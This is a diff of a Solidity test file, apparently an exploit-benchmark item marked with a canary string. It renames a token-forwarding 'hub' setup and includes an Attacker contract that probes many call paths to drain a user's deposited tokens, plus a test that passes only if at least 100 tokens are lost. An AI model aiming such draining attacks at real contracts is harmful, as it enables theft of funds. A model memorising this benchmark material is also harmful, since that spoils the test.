@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: Apache-2.0
 pragma solidity 0.8.24;
 
-import "./GoodsYard.sol";
+import "./AccountHub.sol";
+import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
 
 // assay-canary-ce20dc3f-ecd8-45a0-82f2-a0e21fb902e6
 
@@ -12,104 +13,84 @@ interface Vm {
     function expectRevert(bytes calldata reason) external;
 }
 
-contract Coal is IGoods {
+contract Token is ERC20 {
     address private minter = msg.sender;
-    mapping(address => uint256) public balanceOf;
-    mapping(address => mapping(address => uint256)) public allowance;
+
+    constructor() ERC20("Token", "TKN") {}
 
     function mint(address to, uint256 amount) external {
         require(msg.sender == minter, "minter only");
-        balanceOf[to] += amount;
-    }
-
-    function approve(address spender, uint256 amount) external returns (bool) {
-        allowance[msg.sender][spender] = amount;
-        return true;
-    }
-
-    function transfer(address to, uint256 amount) external returns (bool) {
-        balanceOf[msg.sender] -= amount;
-        balanceOf[to] += amount;
-        return true;
-    }
-
-    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
-        allowance[from][msg.sender] -= amount;
-        balanceOf[from] -= amount;
-        balanceOf[to] += amount;
-        return true;
+        _mint(to, amount);
     }
 }
 
-/// Stores goods of whoever calls.
-contract Depot {
+/// Stores tokens of whoever calls.
+contract Vault {
     mapping(address => uint256) public stored;
     mapping(address => uint256) public paid;
 
-    function store(Coal coal, uint256 amount) external payable returns (uint256) {
-        coal.transferFrom(msg.sender, address(this), amount);
+    function store(Token token, uint256 amount) external payable returns (uint256) {
+        token.transferFrom(msg.sender, address(this), amount);
         paid[msg.sender] += msg.value;
         return stored[msg.sender] += amount;
     }
 }
 
 contract Attacker {
-    GoodsYard internal yard;
-    Coal internal coal;
+    AccountHub internal hub;
+    Token internal token;
 
-    constructor(GoodsYard yard_, Coal coal_) {
-        (yard, coal) = (yard_, coal_);
+    constructor(AccountHub hub_, Token token_) {
+        (hub, token) = (hub_, token_);
     }
 
-    function _send(address depot, bytes memory waybill) private {
-        GoodsYard.Leg[] memory legs = new GoodsYard.Leg[](1);
-        legs[0] = GoodsYard.Leg(depot, 0, waybill);
-        try yard.dispatch(legs) {} catch {}
+    function _send(address vault, bytes memory data) private {
+        AccountHub.Call[] memory calls = new AccountHub.Call[](1);
+        calls[0] = AccountHub.Call(vault, 0, data);
+        try hub.execute(calls) {} catch {}
     }
 
-    function run(address ana, address depot) external {
-        Wagon mine = yard.couple();
-        Wagon hers = yard.wagonOf(ana);
-        uint256 inWagon = coal.balanceOf(address(hers));
-        bytes memory fromHer = abi.encodeCall(coal.transferFrom, (ana, address(this), 50e18));
-        bytes memory fromHers = abi.encodeCall(coal.transferFrom, (address(hers), address(this), inWagon));
-        bytes memory out = abi.encodeCall(coal.transfer, (address(this), inWagon));
+    function run(address ana, address vault) external {
+        ForwardAccount mine = hub.createAccount();
+        ForwardAccount hers = hub.accountOf(ana);
+        uint256 inAccount = token.balanceOf(address(hers));
+        bytes memory fromHer = abi.encodeCall(token.transferFrom, (ana, address(this), 50e18));
+        bytes memory fromHers = abi.encodeCall(token.transferFrom, (address(hers), address(this), inAccount));
+        bytes memory out = abi.encodeCall(token.transfer, (address(this), inAccount));
 
-        try yard.couple() {} catch {}
-        _send(address(coal), fromHer);
-        _send(address(coal), fromHers);
-        _send(address(hers), abi.encodeCall(hers.carry, (address(coal), 0, out)));
-        _send(address(mine), abi.encodeCall(mine.carry, (address(coal), 0, out)));
-        _send(address(yard), abi.encodeCall(yard.unload, (coal, address(this))));
-        _send(address(yard), abi.encodeCall(yard.drive, (ana, address(coal), out)));
-        try new GoodsYard().dispatch(new GoodsYard.Leg[](0)) {} catch {}
+        try hub.createAccount() {} catch {}
+        _send(address(token), fromHer);
+        _send(address(token), fromHers);
+        _send(address(hers), abi.encodeCall(hers.forward, (address(token), 0, out)));
+        _send(address(mine), abi.encodeCall(mine.forward, (address(token), 0, out)));
+        _send(address(hub), abi.encodeCall(hub.withdraw, (token, address(this))));
+        _send(address(hub), abi.encodeCall(hub.executeFor, (ana, address(token), out)));
+        try new AccountHub().execute(new AccountHub.Call[](0)) {} catch {}
 
-        try yard.drive(ana, address(coal), out) {} catch {}
-        try yard.drive(ana, depot, out) {} catch {}
-        yard.appoint(address(this), address(coal), true);
-        try yard.drive(ana, address(coal), out) {} catch {}
-        try yard.drive(address(this), address(coal), fromHer) {} catch {}
-        try yard.appoint(address(this), address(yard), true) {} catch {}
+        try hub.executeFor(ana, address(token), out) {} catch {}
+        try hub.executeFor(ana, vault, out) {} catch {}
+        hub.setOperator(address(this), address(token), true);
+        try hub.executeFor(ana, address(token), out) {} catch {}
+        try hub.executeFor(address(this), address(token), fromHer) {} catch {}
+        try hub.setOperator(address(this), address(hub), true) {} catch {}
 
-        try yard.load(coal, 50e18) {} catch {}
-        try yard.load(IGoods(address(0xDEAD)), 50e18) {} catch {}
-        try yard.unload(coal, address(this)) {} catch {}
-        try hers.carry(address(coal), 0, abi.encodeCall(coal.approve, (address(this), inWagon))) {} catch {}
-        try hers.carry(address(coal), 0, out) {} catch {}
+        try hub.deposit(token, 50e18) {} catch {}
+        try hub.deposit(IERC20(address(0xDEAD)), 50e18) {} catch {}
+        try hub.withdraw(token, address(this)) {} catch {}
+        try hers.forward(address(token), 0, abi.encodeCall(token.approve, (address(this), inAccount))) {} catch {}
+        try hers.forward(address(token), 0, out) {} catch {}
     }
 }
 
-/// Goods that answer "false" where others revert.
-contract Polite is IGoods {
-    function balanceOf(address) external pure returns (uint256) {
-        return 0;
-    }
+/// A token that answers "false" where others revert.
+contract Polite is ERC20 {
+    constructor() ERC20("Polite", "POL") {}
 
-    function transfer(address, uint256) external pure returns (bool) {
+    function transfer(address, uint256) public pure override returns (bool) {
         return false;
     }
 
-    function transferFrom(address, address, uint256) external pure returns (bool) {
+    function transferFrom(address, address, uint256) public pure override returns (bool) {
         return false;
     }
 }
@@ -118,123 +99,123 @@ contract Proof {
     Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
 
     address internal constant ANA = address(0xA7A);
-    address internal constant DRIVER = address(0xD21);
-    Coal internal coal;
-    Depot internal depot;
-    GoodsYard internal yard;
-    Attacker internal tramp;
+    address internal constant OPERATOR = address(0xD21);
+    Token internal token;
+    Vault internal vault;
+    AccountHub internal hub;
+    Attacker internal mallory;
 
     function setUp() public {
-        coal = new Coal();
-        depot = new Depot();
-        yard = new GoodsYard();
-        tramp = new Attacker(yard, coal);
-        coal.mint(ANA, 200e18);
+        token = new Token();
+        vault = new Vault();
+        hub = new AccountHub();
+        mallory = new Attacker(hub, token);
+        token.mint(ANA, 200e18);
         vm.prank(ANA);
-        yard.couple();
+        hub.createAccount();
         vm.prank(ANA);
-        coal.approve(address(yard), type(uint256).max);
+        token.approve(address(hub), type(uint256).max);
         vm.prank(ANA);
-        yard.load(coal, 120e18);
+        hub.deposit(token, 120e18);
     }
 
     function _try(bytes memory data) private returns (bool ok) {
-        (ok, ) = address(yard).call(data);
+        (ok, ) = address(hub).call(data);
     }
 
     function test_Regular() public {
-        address wagon = address(yard.wagonOf(ANA));
-        require(coal.balanceOf(wagon) == 120e18, "loaded");
+        address account = address(hub.accountOf(ANA));
+        require(token.balanceOf(account) == 120e18, "deposited");
         vm.deal(ANA, 3 ether);
         vm.prank(ANA);
-        yard.load{value: 3 ether}(coal, 0);
+        hub.deposit{value: 3 ether}(token, 0);
 
-        GoodsYard.Leg[] memory legs = new GoodsYard.Leg[](2);
-        legs[0] = GoodsYard.Leg(address(coal), 0, abi.encodeCall(coal.approve, (address(depot), 100e18)));
-        legs[1] = GoodsYard.Leg(address(depot), 1 ether, abi.encodeCall(depot.store, (coal, 70e18)));
+        AccountHub.Call[] memory calls = new AccountHub.Call[](2);
+        calls[0] = AccountHub.Call(address(token), 0, abi.encodeCall(token.approve, (address(vault), 100e18)));
+        calls[1] = AccountHub.Call(address(vault), 1 ether, abi.encodeCall(vault.store, (token, 70e18)));
         vm.prank(ANA);
-        bytes[] memory receipts = yard.dispatch(legs);
-        require(abi.decode(receipts[1], (uint256)) == 70e18 && depot.paid(wagon) == 1 ether, "delivered");
+        bytes[] memory results = hub.execute(calls);
+        require(abi.decode(results[1], (uint256)) == 70e18 && vault.paid(account) == 1 ether, "delivered");
 
-        bytes memory more = abi.encodeCall(depot.store, (coal, 20e18));
-        vm.prank(DRIVER);
-        require(!_try(abi.encodeCall(yard.drive, (ANA, address(depot), more))), "no driver");
+        bytes memory more = abi.encodeCall(vault.store, (token, 20e18));
+        vm.prank(OPERATOR);
+        require(!_try(abi.encodeCall(hub.executeFor, (ANA, address(vault), more))), "no operator");
         vm.prank(ANA);
-        yard.appoint(DRIVER, address(depot), true);
-        vm.prank(DRIVER);
-        yard.drive(ANA, address(depot), more);
-        vm.prank(DRIVER);
-        require(!_try(abi.encodeCall(yard.drive, (ANA, address(coal), ""))), "another depot");
-        require(depot.stored(wagon) == 90e18, "driven");
+        hub.setOperator(OPERATOR, address(vault), true);
+        vm.prank(OPERATOR);
+        hub.executeFor(ANA, address(vault), more);
+        vm.prank(OPERATOR);
+        require(!_try(abi.encodeCall(hub.executeFor, (ANA, address(token), ""))), "another contract");
+        require(vault.stored(account) == 90e18, "executed");
 
-        legs[1] = GoodsYard.Leg(address(0xDEAD), 0, more);
+        calls[1] = AccountHub.Call(address(0xDEAD), 0, more);
         vm.prank(ANA);
-        require(!_try(abi.encodeCall(yard.dispatch, (legs))), "nobody there");
+        require(!_try(abi.encodeCall(hub.execute, (calls))), "no code");
         vm.prank(ANA);
-        require(!_try(abi.encodeCall(yard.load, (IGoods(address(0xDEAD)), 1))), "no goods");
+        require(!_try(abi.encodeCall(hub.deposit, (IERC20(address(0xDEAD)), 1))), "no token");
         vm.prank(ANA);
-        yard.unload(coal, ANA);
+        hub.withdraw(token, ANA);
         vm.prank(ANA);
-        yard.unload(IGoods(address(0)), ANA);
-        require(coal.balanceOf(ANA) == 110e18 && ANA.balance == 2 ether && coal.balanceOf(wagon) == 0, "unloaded");
+        hub.withdraw(IERC20(address(0)), ANA);
+        require(token.balanceOf(ANA) == 110e18 && ANA.balance == 2 ether && token.balanceOf(account) == 0, "withdrawn");
         vm.prank(ANA);
-        require(!_try(abi.encodeCall(yard.couple, ())), "one wagon");
+        require(!_try(abi.encodeCall(hub.createAccount, ())), "one account");
     }
 
-    /// What ana has herself and in her wagon.
-    function honestGoods() public view returns (uint256) {
-        return coal.balanceOf(ANA) + coal.balanceOf(address(yard.wagonOf(ANA)));
+    /// What Ana has herself and in her account.
+    function ownersTokens() public view returns (uint256) {
+        return token.balanceOf(ANA) + token.balanceOf(address(hub.accountOf(ANA)));
     }
 
-    function test_RefusesWhatADepotRefuses() public {
-        GoodsYard.Leg[] memory legs = new GoodsYard.Leg[](1);
-        legs[0] = GoodsYard.Leg(address(coal), 0, abi.encodeCall(coal.mint, (ANA, 1e18)));
+    function test_RefusesWhatATargetRefuses() public {
+        AccountHub.Call[] memory calls = new AccountHub.Call[](1);
+        calls[0] = AccountHub.Call(address(token), 0, abi.encodeCall(token.mint, (ANA, 1e18)));
         vm.prank(ANA);
         vm.expectRevert("minter only");
-        yard.dispatch(legs);
+        hub.execute(calls);
 
         Polite polite = new Polite();
         vm.prank(ANA);
-        vm.expectRevert(abi.encodeWithSelector(GoodsYard.NotMoved.selector, address(polite)));
-        yard.load(polite, 1);
+        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(polite)));
+        hub.deposit(polite, 1);
         vm.prank(ANA);
-        vm.expectRevert(abi.encodeWithSelector(GoodsYard.NotMoved.selector, address(polite)));
-        yard.unload(polite, ANA);
+        vm.expectRevert("AccountHub: transfer failed");
+        hub.withdraw(polite, ANA);
     }
 
-    function test_RefusesTooManyLegs() public {
+    function test_RefusesTooManyCalls() public {
         vm.prank(ANA);
-        vm.expectRevert(GoodsYard.TooManyLegs.selector);
-        yard.dispatch(new GoodsYard.Leg[](9));
+        vm.expectRevert("AccountHub: too many calls");
+        hub.execute(new AccountHub.Call[](9));
     }
 
-    function test_RefusesWhoHasNoWagon() public {
-        vm.prank(DRIVER);
-        vm.expectRevert(abi.encodeWithSelector(GoodsYard.NoWagon.selector, DRIVER));
-        yard.dispatch(new GoodsYard.Leg[](0));
+    function test_RefusesWhoHasNoAccount() public {
+        vm.prank(OPERATOR);
+        vm.expectRevert("AccountHub: no account");
+        hub.execute(new AccountHub.Call[](0));
     }
 
-    function test_RefusesTheYardAsADepot() public {
+    function test_RefusesTheHubAsATarget() public {
         vm.prank(ANA);
-        vm.expectRevert(GoodsYard.OwnDepot.selector);
-        yard.appoint(DRIVER, address(yard), true);
+        vm.expectRevert("AccountHub: the hub itself");
+        hub.setOperator(OPERATOR, address(hub), true);
     }
 
     function exploit() public {
-        tramp.run(ANA, address(depot));
+        mallory.run(ANA, address(vault));
     }
 
     function test_Exploit() public {
-        uint256 before = honestGoods();
+        uint256 before = ownersTokens();
         exploit();
-        require(before - honestGoods() >= 100e18, "goods are all there");
+        require(before - ownersTokens() >= 100e18, "nothing is lost");
     }
 
     function target() public view returns (address) {
-        return address(yard);
+        return address(hub);
     }
 
     function attacker() public view returns (address) {
-        return address(tramp);
+        return address(mallory);
     }
 }
